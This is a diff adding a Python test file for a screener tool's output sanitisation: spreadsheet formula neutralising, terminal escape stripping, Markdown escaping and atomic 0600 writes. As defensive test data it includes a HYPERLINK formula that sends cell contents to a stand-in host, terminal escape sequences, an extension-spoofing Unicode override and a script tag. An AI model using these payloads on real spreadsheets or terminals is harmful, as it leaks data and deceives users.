@@ -1,0 +1,86 @@
+"""Untrusted text at the boundaries: spreadsheets, terminals, Markdown; atomic 0600 files."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import stat
+import unicodedata
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from screener.errors import OutputError
+from screener.escape import md_cell, neutralize, visible
+from screener.write import atomic_write, render_csv
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+
+
+@pytest.mark.parametrize("cell", [
+    '=HYPERLINK("http://x.invalid/?"&A2,"CV")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1",
+    "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "+44 20 7946 0000",
+])
+def test_formula_triggers_get_a_quote(cell: str) -> None:
+    assert neutralize(cell) == "'" + cell
+
+
+@pytest.mark.parametrize("cell", ["José Müller", "", "'=1+1", "a=b", "5+", "NA"])
+def test_harmless_cells_unchanged(cell: str) -> None:
+    assert neutralize(cell) == cell
+
+
+@given(st.text())
+def test_neutralize_is_idempotent_and_leaves_no_trigger(cell: str) -> None:
+    once = neutralize(cell)
+    assert neutralize(once) == once
+    if once and not once.startswith("'"):
+        assert once[0] not in TRIGGERS and once.lstrip()[:1] not in TRIGGERS
+
+
+@given(st.lists(st.text(), min_size=1, max_size=5))
+def test_csv_round_trip_keeps_every_cell(cells: list[str]) -> None:
+    frame = pd.DataFrame({f"c{i}": [v] for i, v in enumerate(cells)}, dtype=object)
+    frame["score"] = [1.5]
+    text = render_csv(frame, bom=True).decode("utf-8-sig")
+    row = next(csv.DictReader(io.StringIO(text, newline="")))
+    for i, value in enumerate(cells):
+        assert row[f"c{i}"] == neutralize(value)
+    assert row["score"] == "1.5"
+
+
+@given(st.text())
+def test_visible_leaves_nothing_a_terminal_acts_on(text: str) -> None:
+    shown = visible(text)
+    assert all(unicodedata.category(ch) not in ("Cc", "Cf", "Cs") for ch in shown)
+
+
+def test_visible_examples() -> None:
+    assert visible("Eve\x1b]0;PWNED\x07\x1b[2J") == "Eve\\x1b]0;PWNED\\x07\\x1b[2J"
+    assert visible("\u202egnp.exe") == "\\u202egnp.exe"
+    assert visible("a\x9b31m") == "a\\x9b31m"
+    assert visible("line\nbreak", keep_newlines=True) == "line\nbreak"
+    assert visible("x" * 10, limit=5) == "xxxx…"
+
+
+def test_markdown_cells_render_no_markup() -> None:
+    assert md_cell("<script>a|b</script> *x* [l](u)") == (
+        "&lt;script&gt;a\\|b&lt;/script&gt; \\*x\\* \\[l\\](u)")
+    assert md_cell("two\nlines") == "two<br>lines"
+
+
+def test_atomic_write_is_0600_and_leaves_no_temp(tmp_path: Path) -> None:
+    target = tmp_path / "sub" / "out.csv"
+    atomic_write(target, b"new")
+    assert target.read_bytes() == b"new"
+    assert stat.S_IMODE(target.stat().st_mode) == 0o600
+    assert sorted(os.listdir(target.parent)) == ["out.csv"]
+
+
+def test_atomic_write_to_a_folder_fails_clearly(tmp_path: Path) -> None:
+    with pytest.raises(OutputError, match="it is a folder"):
+        atomic_write(tmp_path, b"x")
